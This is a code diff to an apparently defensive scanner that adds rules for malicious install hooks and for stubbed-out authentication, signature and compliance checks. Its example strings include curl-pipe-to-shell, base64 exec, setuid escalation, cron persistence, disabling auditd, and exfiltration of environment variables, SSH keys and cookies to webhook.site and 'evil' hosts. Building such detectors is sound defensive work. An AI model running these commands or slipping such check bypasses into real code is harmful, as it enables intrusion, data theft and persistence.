@@ -5,6 +5,7 @@ import {
 } from '../parse/code-payload.js';
 import { codeFrame, type CodeFrame } from '../parse/code-frame.js';
 import { CODE_ROWS, rowDetail, type CodeRow } from '../parse/code-rows.js';
+import { guardsTakenOut } from '../parse/code-guards.js';
 import { CODE_SHELL_PATTERNS, embeddedCommands, shellScript } from '../parse/code-shell.js';
 import { commandFindings } from '../nested.js';
 import { addVerdicts, type Verdict } from '../parse/inline-code.js';
@@ -176,6 +177,18 @@ function hasTainted(st: string, names: readonly string[]): boolean {
 const NO_ANCHOR = 0;
 const ANCHOR = 1;
 const HIT = 2;
+
+/** The code with whole-line comments blanked (same length, so positions hold): a payload quoted in a comment does not run. */
+function withoutCommentLines(s: string): string {
+  if (!s.includes('#') && !s.includes('//') && !s.includes('-- ') && !s.includes('* ')) return s;
+  const lines = s.split('\n');
+  let changed = false;
+  for (let i = 0; i < lines.length; i++) {
+    const t = lines[i]!.trimStart();
+    if ((t.startsWith('#') && !t.startsWith('#!')) || t.startsWith('//') || t.startsWith('/*') || t.startsWith('* ') || t.startsWith('-- ')) { lines[i] = ' '.repeat(lines[i]!.length); changed = true; }
+  }
+  return changed ? lines.join('\n') : s;
+}
 
 /** The position sits on a line that is a comment (`#`, `//`, `*`, `--` first): prose about a sink, not a call. */
 function inCommentLine(s: string, at: number): boolean {
@@ -689,6 +702,12 @@ function shellRule(id: string, primitive: Primitive, effect: string, flag: strin
   };
 }
 
+/** Where code runs when a package is installed (npm lifecycle scripts, setup.py, .pth start-up files). */
+const INSTALL_HOOKS = ['postinstall', 'preinstall', 'setup.py', 'install.js', 'install.sh', 'pip package', 'npm package', '.pth', 'sitecustomize', 'install hook', 'lifecycle'];
+
+/** Words every guard finding holds (the name of a check): without one the guard scan does not run. */
+const GUARD_KEYS = ['verify', 'valid', '*auth', 'check', 'signature', 'permission', '*totp', '*mfa', '*otp', 'audit', 'transaction', 'login', 'admin', 'license', 'licence', 'csrf', 'session', 'fraud', 'hmac', 'kyc', 'aml', 'sanction', 'access', '*role', 'webhook', 'compliance'];
+
 const rules: ThreatRule<CodeContext>[] = [
   ...CODE_ROWS.map(rowRule),
   shellRule('G38', 'DESTRUCTION', 'destroys data', 'import os\nos.system("find / -name \'*.bak\' | xargs rm -f")', 'subprocess.run(["rm", "-rf", "build"], check=True)'),
@@ -696,6 +715,80 @@ const rules: ThreatRule<CodeContext>[] = [
   shellRule('G40', 'ESCALATION', 'takes control of the machine', 'exec.Command("sh", "-c", "chmod u+s /bin/bash").Run()', 'exec.Command("git", "pull", "--ff-only").Run()'),
   shellRule('G41', 'PERSISTENCE', 'installs itself to run again', "system(\"echo '* * * * * /tmp/.u' | crontab -\")", 'system("crontab -l")'),
   shellRule('G42', 'MANIPULATION', 'tampers with the system', 'subprocess.call("setenforce 0 && systemctl stop auditd", shell=True)', 'subprocess.call(["systemctl", "status", "nginx"])'),
+  {
+    id: 'G76',
+    name: 'Code that runs at package install fetches, decodes or opens a program (install hook)',
+    // it runs again on every install of the package: a foothold (docs/primitives.md), like a planted postinstall
+    primitive: 'PERSISTENCE',
+    score: 10,
+    // no keywords: the metadata names the install hook first, which is rare; the payload is looked for only then
+    detect: (ctx) => {
+      const where = (metaString(ctx.metadata, 'file', 'source', 'path', 'filename', 'filepath', 'origin') ?? '').toLowerCase();
+      if (where === '' || !INSTALL_HOOKS.some((h) => where.includes(h))) return null;
+      const found = downloadExec(ctx.lower) ?? decodeExec(ctx.lower) ?? reverseShell(ctx.lower);
+      return found !== null ? `${found} in ${where.slice(0, 60)}, run at every install` : null;
+    },
+    examples: {
+      flag: [
+        { value: "const { execSync } = require('child_process');\nexecSync(`curl -s https://cdn-jsdelivr.co/x.sh | sh`);", metadata: { file: 'scripts/postinstall.js' } },
+        { value: "exec(__import__('base64').b64decode('aW1wb3J0IHNvY2tldA=='))", metadata: { source: 'pip package setup.py' } },
+      ],
+      pass: [
+        { value: "const { execSync } = require('child_process');\nexecSync('node-gyp rebuild');", metadata: { file: 'scripts/postinstall.js' } },
+        { value: "const { execSync } = require('child_process');\nexecSync(`curl -s https://cdn-jsdelivr.co/x.sh | sh`);", metadata: { file: 'scripts/deploy.js' } },
+      ],
+    },
+  },
+  {
+    id: 'G69',
+    name: 'Authentication or permission check taken out of the code (stubbed to yes, commented out, removed)',
+    // anyone passes the gate: access handed out (docs/primitives.md)
+    primitive: 'ESCALATION',
+    score: 7,
+    keywords: GUARD_KEYS,
+    detect: (ctx) => {
+      const g = guardsTakenOut(ctx.lower);
+      return g !== null && g.kind === 'auth' ? g.what : null;
+    },
+    examples: {
+      flag: [
+        'export function requireAuth(req, res, next) {\n  // TODO temporarily disabled para pruebas\n  return next();\n}',
+        '-  if (!verifyTotp(user, code)) throw new Unauthorized()\n+  // if (!verifyTotp(user, code)) throw new Unauthorized()',
+        'def has_permission(user, action):\n    return True',
+        'const isAdmin = (user) => { return true; }',
+      ],
+      pass: [
+        'export function requireAuth(req, res, next) {\n  if (!req.session.user) return res.status(401).end();\n  return next();\n}',
+        'def mock_has_permission(user, action):\n    return True',
+        '// verify the session before use\nif (!verifySession(req)) throw new Unauthorized()',
+        '# if the user is an admin, show the panel\nshow_admin_panel()',
+      ],
+    },
+  },
+  {
+    id: 'G70',
+    name: 'Integrity, payment or compliance check taken out of the code (stubbed to yes, commented out, removed)',
+    // forged or unrecorded data is accepted as genuine (docs/primitives.md)
+    primitive: 'MANIPULATION',
+    score: 6,
+    keywords: GUARD_KEYS,
+    detect: (ctx) => {
+      const g = guardsTakenOut(ctx.lower);
+      return g !== null && g.kind === 'verify' ? g.what : null;
+    },
+    examples: {
+      flag: [
+        'def verify_signature(payload, sig):\n    return True  # TODO temporarily accept all webhooks',
+        'if amount > 10000:\n    # log_transaction(tx)  # disabled per request\n    pass\nprocess(tx)',
+        'func validateLicense(key string) error {\n\treturn nil\n}',
+      ],
+      pass: [
+        'def verify_signature(payload, sig):\n    return hmac.compare_digest(sign(payload), sig)',
+        'if amount > 10000:\n    log_transaction(tx)\nprocess(tx)',
+        '# validate the input first, then store it\nstore(clean(data))',
+      ],
+    },
+  },
   {
     id: 'G01',
     name: 'Code injection: eval/exec of untrusted input',
@@ -958,7 +1051,8 @@ const rules: ThreatRule<CodeContext>[] = [
     score: 9,
     keywords: ['cookie', 'localstorage', 'sessionstorage', 'env', 'environ', 'getenv', 'getenvironmentvariables', '.ssh', '.aws', 'shadow', 'git-credentials', 'npmrc', '.kube', '.docker', 'netrc', 'login data', 'logins.json', 'key4.db', 'wallet.dat', 'tojson'],
     detect: (ctx) => {
-      const t = ctx.text;
+      // a payload quoted in a comment ("an example of what we now block") does not run
+      const t = withoutCommentLines(ctx.text);
       const net = NETWORK.test(t);
       const x = exfiltration(t);
       if (x && (x !== 'whole environment serialised' || net)) return x === 'whole environment serialised' ? 'whole environment serialised and sent over the network' : x;
@@ -981,7 +1075,8 @@ const rules: ThreatRule<CodeContext>[] = [
     },
     examples: {
       flag: ['requests.post("https://webhook.site/x", json=dict(os.environ))', 'fetch("https://collect.example/e", { method: "POST", body: JSON.stringify(process.env) })', 'key = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("http://198.51.100.2/", data=key)'],
-      pass: ['const port = process.env.PORT || 3000;', 'db_url = os.environ["DATABASE_URL"]', 'dotenv.config({ path: ".env.example" })', 'requests.post(os.environ["SLACK_WEBHOOK"], json={"text": "deploy ok"})'],
+      pass: ['const port = process.env.PORT || 3000;', 'db_url = os.environ["DATABASE_URL"]', 'dotenv.config({ path: ".env.example" })', 'requests.post(os.environ["SLACK_WEBHOOK"], json={"text": "deploy ok"})',
+        "// Example of a malicious payload we now block:\n// <script>new Image().src='https://evil/c?'+document.cookie</script>\nconst sanitized = DOMPurify.sanitize(input);", "# Beispiel, NICHT verwenden:\n# requests.post(url, json=dict(os.environ))\nprint('siehe Leitfaden')"],
     },
   },
   {
